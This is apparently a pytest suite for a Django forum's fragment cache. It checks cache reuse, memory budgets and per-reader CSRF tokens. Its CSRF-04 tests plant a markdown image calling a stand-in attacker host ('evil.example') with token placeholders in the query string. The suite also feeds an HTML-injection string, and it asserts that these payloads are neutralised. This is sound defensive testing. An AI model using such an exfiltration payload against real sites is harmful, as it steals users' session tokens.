"""Rendered fragments are reused only while every value they show is the same."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from datetime import timedelta
from pathlib import Path

import pytest
from django.test import Client
from django.utils import timezone
from django.utils.safestring import SafeString
from pytest_django import Settings

from pnyx.accounts.models import Member
from pnyx.core import fragments
from pnyx.core.fragments import FORM_KEY, Fragment, Slot, render_fragment, with_form_key
from pnyx.posting.services import edit_post
from pnyx.reactions.services import set_reaction
from pnyx.testing.factories import first_post, make_post
from pnyx.threads.models import Post, Thread

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _empty_fragment_cache() -> Iterator[None]:
    fragments.clear()
    yield
    fragments.clear()


def _page(client: Client, thread: Thread) -> str:
    response = client.get(thread.get_absolute_url())
    assert response.status_code == 200
    return response.content.decode()


def test_render_fragment_reuses_the_html_for_equal_values(monkeypatch: pytest.MonkeyPatch) -> None:
    values = {"number": 1, "page_count": 2, "has_next": True, "base_url": "/t/", "first_url": "/t/"}
    first = render_fragment("core/partials/pagination.html", {**values, "pages": [1, 2]}).html()
    calls: list[str] = []
    monkeypatch.setattr(fragments, "get_template", lambda name: calls.append(name))
    again = render_fragment("core/partials/pagination.html", {**values, "pages": (1, 2)}).html()
    assert again == first
    assert calls == []
    assert 'href="/t/page-2" rel="next"' in first


def test_render_fragment_renders_again_when_a_value_differs() -> None:
    values = {"pages": [1, 2], "number": 1, "page_count": 2, "has_next": True,
              "base_url": "/t/", "first_url": "/t/"}  # fmt: skip
    one = render_fragment("core/partials/pagination.html", values).html()
    two = render_fragment("core/partials/pagination.html", {**values, "number": 2}).html()
    assert one != two
    assert 'aria-current="page" href="/t/page-2"' in two


def test_render_fragment_refuses_values_that_cannot_be_a_key(thread: Thread) -> None:
    with pytest.raises(TypeError, match="hashable"):
        render_fragment("core/partials/pagination.html", {"pages": {1: 2}})


def test_render_fragment_cache_can_be_turned_off(settings: Settings) -> None:
    settings.FRAGMENT_CACHE_BYTES = 0
    render_fragment("core/partials/pagination.html", {"pages": [1], "number": 1})
    assert len(fragments._store) == 0


def test_fragment_html_puts_in_the_readers_token_at_its_slots_only() -> None:
    plain = render_fragment("core/partials/pagination.html", {"pages": [1]})
    assert plain.slots == ()
    assert plain.html() is plain.parts[0]
    form = Fragment(
        (SafeString('<p>x</p><input value="'), SafeString('"><input value="'), SafeString('">')),
        (Slot.CSRF_TOKEN, Slot.CSRF_TOKEN),
    )
    assert form.needs_csrf_token is True
    assert form.html("Token123") == '<p>x</p><input value="Token123"><input value="Token123">'
    with pytest.raises(ValueError, match="letters and digits"):
        form.html('"><script>')
    with pytest.raises(ValueError, match="letters and digits"):
        form.html("")


def test_fragment_with_form_key_fills_only_the_form_key_slot() -> None:
    form = Fragment(
        (SafeString("a"), SafeString("b"), SafeString("c")), (Slot.FORM_KEY, Slot.CSRF_TOKEN)
    )
    with pytest.raises(ValueError, match="form key"):
        form.html("Token123")
    keyed = with_form_key(form, "key-1_A")
    assert keyed == Fragment((SafeString("akey-1_Ab"), SafeString("c")), (Slot.CSRF_TOKEN,))
    assert keyed.html("T0k") == "akey-1_AbT0kc"
    with pytest.raises(ValueError, match="a form key is"):
        with_form_key(form, '"><b>')


def test_render_fragment_cuts_the_html_at_fresh_markers_each_render() -> None:
    """The markers are unguessable (128 random bits) and new for every render, so no
    content rendered into a fragment can hold one."""
    seen: list[str] = []

    def render(markers: Mapping[Slot, str]) -> str:
        seen.append(markers[Slot.CSRF_TOKEN])
        return f"<i>{markers[Slot.CSRF_TOKEN]}</i>{markers[Slot.FORM_KEY]}!"

    one, two = fragments._render(render), fragments._render(render)
    expected = Fragment(
        (SafeString("<i>"), SafeString("</i>"), SafeString("!")), (Slot.CSRF_TOKEN, Slot.FORM_KEY)
    )
    assert one == two == expected
    assert seen[0] != seen[1]
    assert all(re.fullmatch(r"pnyx[0-9a-f]{32}c", marker) for marker in seen)


def test_thread_page_shows_each_reader_their_own_reactions_and_token(
    thread: Thread, member: Member, other_member: Member, member_client: Client, settings: Settings
) -> None:
    post = first_post(thread)
    set_reaction(member, post, "like", on=True)
    third = Client()
    third.force_login(Member.objects.create_user(username="carol", password="x" * 12))
    for _ in range(2):
        mine = _page(member_client, thread)
        theirs = _page(third, thread)
        assert '<button name="kind" value="like" aria-pressed="true">' in mine
        assert 'value="like" aria-pressed="true"' not in theirs
        assert re.search(r"pnyx[0-9a-f]{32}", mine + theirs) is None
        token = member_client.cookies["csrftoken"].value
        assert 'name="csrfmiddlewaretoken" value="' in mine
        assert token not in theirs


def test_thread_page_shows_an_edit_at_once(
    thread: Thread, other_member: Member, member_client: Client
) -> None:
    assert "talks would resume on Monday" in _page(member_client, thread)
    edit_post(other_member, first_post(thread), body="Talks resume on Friday instead.")
    html = _page(member_client, thread)
    assert "Talks resume on Friday instead." in html
    assert "talks would resume on Monday" not in html


def test_thread_page_relative_times_move_on(thread: Thread, member_client: Client) -> None:
    Post.objects.filter(thread=thread).update(created_at=timezone.now() - timedelta(minutes=5))
    assert "5 minutes ago" in _page(member_client, thread)
    Post.objects.filter(thread=thread).update(created_at=timezone.now() - timedelta(minutes=9))
    assert "9 minutes ago" in _page(member_client, thread)


def test_thread_page_html_is_the_same_from_the_cache(
    thread: Thread, guest_client: Client, settings: Settings
) -> None:
    def without_views(html: str) -> str:
        return re.sub(r"\d+ views?", "", html)

    settings.FRAGMENT_CACHE_BYTES = 0
    cold = without_views(_page(guest_client, thread))
    settings.FRAGMENT_CACHE_BYTES = 4 << 20
    _page(guest_client, thread)
    assert without_views(_page(guest_client, thread)) == cold


def _reply_box_of(html: str) -> str:
    start = html.index('<form method="post" action="/threads/')
    return html[start : html.index("</form>", start) + len("</form>")]


def _without_keys(html: str) -> str:
    html = re.sub(r'name="idempotency_key" value="[^"]+"', 'name="idempotency_key" value=""', html)
    return re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', 'name="csrfmiddlewaretoken"', html)


@pytest.mark.parametrize("body", [None, "", 'My <b>draft</b> & "quotes"\n\nsecond line'])
def test_reply_form_fragment_is_the_composer_as_it_was(
    thread: Thread, member: Member, member_client: Client, body: str | None
) -> None:
    from django.template.loader import render_to_string
    from django.urls import reverse

    from pnyx.posting.forms import reply_form_for
    from pnyx.posting.services import save_draft

    if body is not None:
        save_draft(member, thread=thread, body="something", sequence=0)
        save_draft(member, thread=thread, body=body, sequence=1)
    form, draft = reply_form_for(member, thread)
    expected = render_to_string(
        "posting/partials/composer.html",
        {
            "form": form,
            "action": reverse("thread-reply", args=[thread.pk, thread.slug]),
            "submit_label": "Post reply",
            "drafts": True,
            "draft": draft,
            "draft_restored": draft is not None and not draft.is_empty,
            "csrf_token": "x",
        },
    )
    pages = [_page(member_client, thread) for _ in range(2)]
    boxes = [_reply_box_of(page) for page in pages]
    assert (
        _without_keys(boxes[0]) == _without_keys(boxes[1]) == _without_keys(_reply_box_of(expected))
    )
    assert (body is not None and body != "") is ("Your draft was restored" in boxes[0])
    keys = [re.findall(r'name="idempotency_key" value="([^"]+)"', box) for box in boxes]
    assert len(keys[0]) == 1 and len(keys[1]) == 1 and keys[0] != keys[1]  # fresh each time
    token = member_client.cookies["csrftoken"].value
    assert token
    assert all(re.search(r"pnyx[0-9a-f]{32}", page) is None for page in pages)


def test_reply_form_fragment_follows_the_draft(
    thread: Thread, member: Member, member_client: Client
) -> None:
    from pnyx.posting.services import save_draft

    save_draft(member, thread=thread, body="first words", sequence=0)
    assert "first words</textarea>" in _page(member_client, thread)
    save_draft(member, thread=thread, body="second words", sequence=1)
    html = _page(member_client, thread)
    assert "second words</textarea>" in html
    assert "first words" not in html
    assert 'name="draft_sequence" value="2"' in html


def test_header_shows_the_reader_as_they_are_now(
    thread: Thread, member: Member, member_client: Client, moderator_client: Client
) -> None:
    html = _page(member_client, thread)
    assert '<a href="/members/alice/" class="account-name">Alice Example</a>' in html
    assert "/admin/" not in html
    assert "/admin/" in _page(moderator_client, thread)
    Member.objects.filter(pk=member.pk).update(display_name="Alice Renamed")
    html = _page(member_client, thread)
    assert "Alice Renamed</a>" in html
    assert "Alice Example</a>" not in html.split("</header>")[0]
    Member.objects.filter(pk=member.pk).update(is_staff=True)
    assert "/admin/" in _page(member_client, thread)


def test_render_fragment_counts_its_key_against_the_budget(settings: Settings) -> None:
    """The values in the key (a post's HTML among them) weigh on memory like the rendered
    HTML does: the store's total must count them, or it holds more than its budget."""
    settings.FRAGMENT_CACHE_BYTES = 1 << 20
    unused = "x" * 100_000  # passed in, not shown: only the key holds it
    html = render_fragment(
        "core/partials/pagination.html",
        {
            "number": 1,
            "page_count": 2,
            "has_next": True,
            "base_url": "/t/",
            "first_url": "/t/",
            "unused": unused,
        },
    ).html()
    assert len(html) < 10_000
    assert fragments._store.size >= 100_000 + len(html)
    # Over the budget, the oldest entries go, by the sizes they were counted at.
    settings.FRAGMENT_CACHE_BYTES = 150_000
    for n in range(1, 4):
        render_fragment(
            "core/partials/pagination.html",
            {
                "number": n,
                "page_count": 9,
                "has_next": True,
                "base_url": "/t/",
                "first_url": "/t/",
                "unused": unused,
            },
        )
    assert len(fragments._store) == 1
    assert 100_000 < fragments._store.size <= 150_000


# ------------------------------------------------ CSRF-04: member text holds no slot

OLD_PLACEHOLDERS = "PNYXFRAGMENTCSRFTOKEN PNYXFRAGMENTFORMKEY"
BAIT = (
    "![pixel](https://evil.example/p.png?t=PNYXFRAGMENTCSRFTOKEN&k=PNYXFRAGMENTFORMKEY)\n\n"
    f"Plain text: {OLD_PLACEHOLDERS}"
)


def _tokens(html: str) -> list[str]:
    return re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)


def test_csrf04_post_text_holding_the_placeholders_shows_them_verbatim(
    thread: Thread, member: Member, member_client: Client
) -> None:
    make_post(thread, author=member, body=BAIT)
    for _ in range(2):  # rendered, then from the fragment store
        html = _page(member_client, thread)
        assert f"<p>Plain text: {OLD_PLACEHOLDERS}</p>" in html
        assert (
            'src="https://evil.example/p.png?t=PNYXFRAGMENTCSRFTOKEN&amp;k=PNYXFRAGMENTFORMKEY"'
            in html
        )
        tokens = _tokens(html)
        assert len(tokens) >= 3  # the header, the reaction forms and the reply form
        assert len(set(tokens)) == 1  # one masked token per page
        # The reader's token appears in the hidden inputs and nowhere else.
        assert html.count(tokens[0]) == len(tokens)
        assert re.search(r"pnyx[0-9a-f]{32}", html) is None


def test_csrf04_draft_holding_the_placeholders_comes_back_verbatim(
    thread: Thread, member: Member, member_client: Client
) -> None:
    from pnyx.posting.services import save_draft

    save_draft(member, thread=thread, body=OLD_PLACEHOLDERS, sequence=0)
    for _ in range(2):
        box = _reply_box_of(_page(member_client, thread))
        assert f"{OLD_PLACEHOLDERS}</textarea>" in box
        (key,) = re.findall(r'name="idempotency_key" value="([^"]+)"', box)
        assert re.fullmatch(r"[A-Za-z0-9_-]{16,}", key)
        (token,) = _tokens(box)
        assert box.count(token) == 1 and box.count(key) == 1


def test_csrf04_guest_page_with_a_placeholder_post_stays_cacheable(
    thread: Thread, member: Member, guest_client: Client, settings: Settings, tmp_path: Path
) -> None:
    settings.GUEST_CACHE_SECONDS = 60
    settings.DATA_DIR = tmp_path
    make_post(thread, author=member, body=BAIT)
    url = thread.get_absolute_url()
    guest_client.get(url)  # creates the site settings row (which bumps the version)
    guest_client.get(url)
    response = guest_client.get(url)
    assert response["X-Cache"] == "HIT"
    html = response.content.decode()
    assert f"<p>Plain text: {OLD_PLACEHOLDERS}</p>" in html
    assert _tokens(html) == []
    assert "csrftoken" not in guest_client.cookies


def test_render_form_fragment_puts_a_fresh_key_where_form_key_was_given(
    thread: Thread,
) -> None:
    from pnyx.posting.forms import ReplyForm

    values = {"action": "/r/", "submit_label": "Go", "drafts": False}
    rendered = fragments.render_form_fragment(
        "posting/partials/composer.html", ReplyForm, {"idempotency_key": FORM_KEY}, values
    )
    assert rendered.slots == (Slot.CSRF_TOKEN, Slot.FORM_KEY)
    again = fragments.render_form_fragment(
        "posting/partials/composer.html", ReplyForm, {"idempotency_key": FORM_KEY}, values
    )
    assert again is rendered
    html = with_form_key(rendered, "K3y").html("T0ken")
    assert 'name="csrfmiddlewaretoken" value="T0ken"' in html
    assert 'name="idempotency_key" value="K3y"' in html
